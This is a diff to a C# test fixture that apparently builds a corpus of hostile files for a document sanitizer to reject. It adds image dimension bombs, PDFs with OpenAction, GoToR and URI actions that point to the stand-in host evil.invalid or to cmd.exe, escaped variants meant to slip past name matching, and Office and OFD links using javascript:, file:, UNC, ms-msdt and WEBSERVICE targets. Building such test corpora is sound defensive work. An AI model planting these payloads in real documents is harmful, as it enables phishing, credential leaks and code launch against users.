@@ -48,6 +48,7 @@ internal static class HostileFiles
         yield return new("bomb", "huge.jpg", jpeg, true);
         yield return new("bomb", "huge.png", PngClaiming(60_000, 60_000), true);
         yield return new("bomb", "wide.png", PngClaiming(2_000_000_000, 1), true);
+        yield return new("bomb", "small.png", PngClaiming(7000, 7000), true);
         yield return new("bomb", "huge.gif", Gif(65_535, 65_535), true);
         yield return new("bomb", "huge.bmp", Bmp(40_000, 40_000), true);
         yield return new("bomb", "negative.bmp", Bmp(-5, 40_000), true);
@@ -90,10 +91,18 @@ internal static class HostileFiles
             ("short.pdf", "3 0 obj\n<< /JS 4 0 R >>\nendobj"), ("shorter.pdf", "3 0 obj\n<< /J#53 <6161> >>\nendobj"), ("launch.pdf", "3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"),
             ("carried.pdf", "3 0 obj\n<< /Type /EmbeddedFile >>\nendobj"), ("media.pdf", "3 0 obj\n<< /Subtype /RichMedia >>\nendobj"), ("locked.pdf", "3 0 obj\n<< /Encrypt 4 0 R >>\nendobj"),
             ("form.pdf", "3 0 obj\n<< /XFA [(template) 4 0 R] >>\nendobj"), ("odd.pdf", "3 0 obj\n<< /Type /ObjStm >>\nstream\nnot deflated\nendstream\nendobj"), ("hidden.pdf", "3 0 obj\n<< /Type /Obj#53tm >>\nendobj"),
+            ("opens-web.pdf", "3 0 obj\n<< /OpenAction << /S /URI /URI (http://evil.invalid/) >> >>\nendobj"),
+            ("opens-later.pdf", "3 0 obj\n<< /OpenAction 4 0 R >>\nendobj\n4 0 obj\n<< /S /URI /URI (http://evil.invalid/) >>\nendobj"),
+            ("turns.pdf", "3 0 obj\n<< /AA << /O 4 0 R >> >>\nendobj\n4 0 obj\n<< /S /URI /URI (http://evil.invalid/) >>\nendobj"),
+            ("share.pdf", "3 0 obj\n<< /S /GoToR /F (\\\\\\\\evil.invalid\\\\share\\\\a.pdf) >>\nendobj"),
+            ("unc.pdf", "3 0 obj\n<< /S /URI /URI (\\\\\\\\evil.invalid\\\\share) >>\nendobj"), ("file.pdf", "3 0 obj\n<< /S /URI /URI (file:///C:/cmd.exe) >>\nendobj"),
+            ("octal.pdf", "3 0 obj\n<< /S /URI /URI (\\152avascript:alert) >>\nendobj"), ("hex.pdf", "3 0 obj\n<< /S /URI /URI <66696c653a2f2f2f63> >>\nendobj"),
+            ("named.pdf", "3 0 obj\n<< /Open#41ction << /S /U#52I /U#52I (http://evil.invalid/) >> >>\nendobj"),
         ];
         foreach (var (name, objects) in active)
             yield return new("pdf", name, Pdf(objects), true);
         yield return new("pdf", "packed.pdf", PdfPacked("6 0 << /S /JavaScript /JS (app.alert) >>"), true);
+        yield return new("pdf", "packed-opens.pdf", PdfPacked("6 0 << /OpenAction << /S /URI /URI (http://evil.invalid/) >> >>"), true);
         yield return new("pdf", "tail.pdf", [.. Pdf(), .. Zip(("evil.exe", Utf8(Marker)))], true);
         yield return new("pdf", "before.pdf", [.. Utf8(Marker), .. Pdf()], true);
         yield return new("truncated", "half.pdf", Pdf()[..80], true);
@@ -106,6 +115,15 @@ internal static class HostileFiles
         yield return new("package", "template.docx", Document("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "<document/>"), true);
         yield return new("package", "remote.docx", Docx(Link("attachedTemplate", "http://evil.invalid/x.dotm")), true);
         yield return new("package", "beacon.docx", Docx(Link("image", "http://evil.invalid/x.png")), true);
+        foreach (var target in new[] { "javascript:alert(1)", "file:///C:/cmd.exe", "\\\\evil.invalid\\share", "//evil.invalid/share", "java&#10;script:a", "vbscript:a", "ms-msdt:/id" })
+            yield return new("link", $"{target[..4]}.docx", Docx(Link("hyperlink", target)), true);
+        yield return new("link", "field.docx", DocxSaying("<w:r><w:instrText>HYPERLINK \"file:///C:/cmd.exe\"</w:instrText></w:r>"), true);
+        yield return new("link", "formula.xlsx", Xlsx(("xl/worksheets/sheet1.xml", Utf8("<c><f>HYPERLINK(\"file:///C:/cmd.exe\",\"a\")</f></c>"))), true);
+        yield return new("link", "web.xlsx", Xlsx(("xl/worksheets/sheet1.xml", Utf8("<c><f>WEBSERVICE(\"http://evil.invalid\")</f></c>"))), true);
+        yield return new("link", "button.pptx", Pptx(("ppt/slides/slide1.xml", Utf8("<a action=\"ppaction://program?cmd.exe\"/>"))), true);
+        yield return new("link", "action.ofd", Ofd(("Doc_0/Annots.xml", Utf8("<Action URI=\"file:///c:/a.exe\"/>"))), true);
+        yield return new("svg", "image.docx", Docx(("word/media/image1.svg", Utf8("<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>"))), true);
+        yield return new("svg", "renamed.docx", Docx(("word/media/image1.png", Utf8("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>"))), true);
         yield return new("package", "ole.docx", Docx(("word/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0])), true);
         yield return new("package", "hidden-ole.docx", Docx(("word/media/image1.png", [0xD0, 0xCF, 0x11, 0xE0, 1])), true);
         yield return new("package", "program.docx", Docx(("word/media/image1.png", Utf8("MZ" + Marker))), true);
